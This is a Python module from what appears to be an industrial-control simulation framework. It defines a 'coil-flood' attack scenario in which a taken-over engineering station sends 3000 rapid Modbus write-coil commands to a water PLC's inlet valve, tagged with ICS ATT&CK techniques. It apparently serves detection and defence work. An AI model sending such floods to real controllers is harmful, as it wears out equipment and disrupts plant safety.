"""Thousands of writes of one valve's coil in a minute."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import modbus

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]

_WRITES: Final = 3000


def _script(scene: Scene) -> Script:
    link = Link("engineering", "plc-water", 502)
    for k in range(_WRITES):
        yield Ask(link, modbus.adu(k, 1, modbus.write_coil(0, on=bool(k & 1))))
        yield Wait(scene.draws.uniform(0.01, 0.02))
    yield Close(link)


SCENARIO: Final = Scenario(
    name="coil-flood",
    title="The engineering station, taken over, floods the inlet valve's coil",
    technique="T0806",
    also=("T0855",),
    attacker="engineering",
    victims=("plc-water",),
    harm="The inlet valve chatters and its actuator wears out; the controller's answers to the panel slow down.",
    script=_script,
    moves=("raw.inlet",),
)
